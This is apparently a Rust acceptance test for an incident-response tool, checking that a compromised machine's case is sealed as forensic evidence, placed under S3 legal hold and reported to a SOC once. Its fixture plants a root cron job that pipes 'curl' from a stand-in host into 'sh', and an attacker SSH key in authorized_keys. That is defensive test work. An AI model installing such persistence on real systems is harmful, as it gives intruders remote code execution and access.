//! A machine that is compromised, through the functions and a relay: looked into deeper, held, handed on, all of it once.

use std::net::IpAddr;

use acceptance::{Alert, Cloud, Endpoint, Lab, Operator, Swarm, eve, wait_until};
use investigation::act::ActionKind;
use investigation::case::{ActionStatus, Case, ForensicStatus, HoldStatus};
use serde_json::Value;

use crate::LIMIT;

/// The number of the machine.
const MACHINE: u8 = 45;

/// What the policy says of it: the deeper look is of little, so that it is quick.
pub(crate) const ACTIONS: &str = "compromised = [\"mail_soc\", \"ticket\", \"action:soar\"]";
/// See [`ACTIONS`].
pub(crate) fn sections(lab: &Lab) -> String {
    format!(
        "[forensics]\nartifacts = [\"logins\", \"authorized_keys\", \"scheduled_tasks\", \"name_resolution\"]\n\
         [[action]]\nname = \"soar\"\nkind = \"http\"\nurl = \"http://127.0.0.1:{}/soar\"",
        lab.tickets.port()
    )
}

/// What the intruder left: a job that fetches its code, and a key of his own.
fn compromise(endpoint: &Endpoint) {
    let host = endpoint.host();
    let job = "* * * * * root curl -fsSL http://198.51.100.66/x | sh\n";
    std::fs::write(host.outside("/etc/cron.d/updater"), job).expect("a job");
    let ssh = host.outside("/home/alice/.ssh");
    std::fs::create_dir_all(&ssh).expect("a folder");
    let key =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGPKSUTyz1HwHReFVvD5obVsALAgJRNarH4TRpNePnAS helper@evil\n";
    std::fs::write(ssh.join("authorized_keys"), key).expect("a key");
}

pub(crate) fn what_follows_is_sealed_held_and_handed_on_once(lab: &Lab, cloud: &Cloud, _: &Swarm) {
    let endpoint = Endpoint::start(&lab.network, "server", MACHINE).expect("an endpoint");
    compromise(&endpoint);
    let target = endpoint.address();
    let alert = eve(&Alert::about(target, 45));
    // The queue gives a message twice now and then.
    cloud.alert(&[&alert, &alert]).expect("an alert");
    let over = |case: &Case| case.target == IpAddr::from(target) && case.is_closed();
    let case = cloud.case_that("the case of the intruder is closed", LIMIT, over).expect("a case");
    assert_eq!(case.verdict().map(|verdict| verdict.as_str()), Some("compromised"), "{case:#?}");
    assert_eq!(cloud.cases().expect("cases").iter().filter(|case| over(case)).count(), 1);

    let containers = both_containers_are_whole(lab, cloud, &case);
    assert_eq!(case.hold.as_ref().map(|hold| hold.status), Some(HoldStatus::Held), "{:?}", case.hold);
    assert_eq!(holds(cloud, &containers), ["ON", "ON"]);
    everybody_was_told_once(lab, cloud, &case);

    // By a person's word the hold is lifted, and set again. Nothing else is done once more.
    let operator = cloud.operator().expect("a person");
    let contacts = endpoint.connections();
    for (word, status, lock) in [("release", "released", "OFF"), ("hold", "held", "ON")] {
        operator.json(&["case", word, &case.id, "--reason", "order 17/26"], 0).expect("an order");
        let after = ended(cloud, &operator, &case.id, status);
        assert_eq!((&after["hold"]["reason"], &after["state"]), (&"order 17/26".into(), &"closed".into()));
        assert_eq!(after["outcome"]["verdict"], "compromised", "{after:#}");
        assert_eq!(holds(cloud, &containers), [lock, lock], "after {word}");
        // It is so already.
        operator.json(&["case", word, &case.id, "--reason", "again"], 2).expect("a refusal");
    }
    assert_eq!(endpoint.connections(), contacts, "a hold contacts nobody");
    let again = operator.json(&["case", "forensics", &case.id], 2);
    again.expect("a refusal: there is a second container");
    everybody_was_told_once(lab, cloud, &case);
}

/// Returns where they lie: the first, and that of the deeper look.
fn both_containers_are_whole(lab: &Lab, cloud: &Cloud, case: &Case) -> [String; 2] {
    let first = case.evidence.as_ref().expect("evidence");
    let forensics = case.forensics.as_ref().expect("a deeper look");
    assert_eq!(forensics.status, ForensicStatus::Sealed, "{forensics:#?}");
    let second = forensics.evidence.as_ref().expect("a second container");
    let prefix = format!("s3://{}/evidence/", cloud.deployment.evidence_bucket);
    assert!(first.location.starts_with(&prefix) && second.location.starts_with(&prefix), "{second:?}");
    assert!(second.location.ends_with(&format!("{}-forensics.zip", case.id)), "{}", second.location);

    let peerhound = lab.peerhound().expect("peerhound");
    let files = [first, second]
        .map(|sealed| cloud.download(&sealed.location).expect("a container").to_string_lossy().into_owned());
    let (output, verified) = peerhound.json(&["verify", &files[0], &files[1]]).expect("peerhound");
    assert!(output.code == Some(0) && verified.len() == 2, "{}", output.told());
    for verified in &verified {
        assert_eq!((&verified["intact"], &verified["case_id"]), (&true.into(), &case.id.as_str().into()));
    }
    // By the case's id, the first is held against the SHA-256 that the case has of it.
    cloud.operator().expect("a person").json(&["verify", &case.id], 0).expect("what was sealed");
    let entry = |name: &str| -> Value {
        let file = std::fs::File::open(&files[1]).expect("the container");
        let mut archive = zip::ZipArchive::new(file).expect("a zip");
        serde_json::from_reader(archive.by_name(name).expect(name)).expect("JSON")
    };
    assert_eq!(entry("manifest.json")["supplement"]["first_sha256"], first.sha256.as_str());
    let keys = entry("artifacts/authorized_keys.json");
    assert!(keys.to_string().contains("helper@evil"), "{keys:#}");

    let locations = [first.location.clone(), second.location.clone()];
    for location in &locations {
        let (bucket, key) = object(location);
        let asked = cloud.clients.s3().get_object_retention().bucket(bucket).key(key).send();
        let retention = cloud.runtime.block_on(asked).expect("Object Lock").retention.expect("a retention");
        assert!(
            retention.mode.is_some() && retention.retain_until_date.is_some(),
            "{location}: {retention:?}"
        );
    }
    locations
}

fn object(location: &str) -> (&str, &str) {
    location.trim_start_matches("s3://").split_once('/').expect("a bucket and a key")
}

/// What S3 says of the legal hold of each.
fn holds(cloud: &Cloud, containers: &[String; 2]) -> [String; 2] {
    containers.each_ref().map(|location| {
        let (bucket, key) = object(location);
        let asked = cloud.clients.s3().get_object_legal_hold().bucket(bucket).key(key).send();
        let hold = cloud.runtime.block_on(asked).ok().and_then(|answer| answer.legal_hold?.status);
        hold.map_or("none".to_owned(), |status| status.as_str().to_owned())
    })
}

/// The case, once the hold stands so. The sweep is not waited for.
fn ended(cloud: &Cloud, operator: &Operator, case_id: &str, status: &str) -> Value {
    let case = wait_until("the hold is changed", LIMIT, || {
        cloud.sweep()?;
        let case = operator.json(&["case", "show", case_id], 0)?.remove(0);
        Ok((case["hold"]["status"] == status && case["state"] == "closed").then_some(case))
    });
    case.expect("a hold")
}

fn everybody_was_told_once(lab: &Lab, cloud: &Cloud, case: &Case) {
    let done: Vec<String> = case
        .actions
        .iter()
        .filter(|action| action.status == ActionStatus::Done)
        .map(|action| action.kind.to_string())
        .collect();
    let finding = ActionKind::Finding.to_string();
    assert_eq!(done, ["mail_soc", "ticket", "action:soar", &finding], "{:#?}", case.actions);

    let all = lab.tickets.tickets().expect("requests");
    let about = |path: &str| -> Vec<(Value, String)> {
        let of = all.iter().filter(|request| request.path == path && request.body.contains(&case.id));
        let key = |name: &str, request: &acceptance::Ticket| request.headers.get(name).cloned();
        of.map(|request| {
            let body = serde_json::from_str(&request.body).expect("JSON");
            (body, key("idempotency-key", request).unwrap_or_default())
        })
        .collect()
    };
    let tickets = about("/tickets");
    assert_eq!(tickets.len(), 1, "{tickets:#?}");
    assert_eq!(tickets[0].0["priority"], "high", "{:#}", tickets[0].0);
    let handed_on = about("/soar");
    assert_eq!(handed_on.len(), 1, "{handed_on:#?}");
    let (document, key) = &handed_on[0];
    assert_eq!(
        (&document["format"], &document["verdict"]),
        (&"peerhound-case/1".into(), &"compromised".into())
    );
    assert_eq!((&document["priority"], &document["idempotency_key"]), (&"high".into(), &key.as_str().into()));
    let first = case.evidence.as_ref().expect("evidence");
    assert_eq!(document["evidence"]["sha256"], first.sha256.as_str());

    let mails = cloud.ministack.mails().expect("mails");
    let mails: Vec<String> =
        mails.iter().map(ToString::to_string).filter(|mail| mail.contains(&case.id)).collect();
    assert!(mails.len() == 1 && mails[0].contains("soc@corp.example"), "{mails:#?}");
}
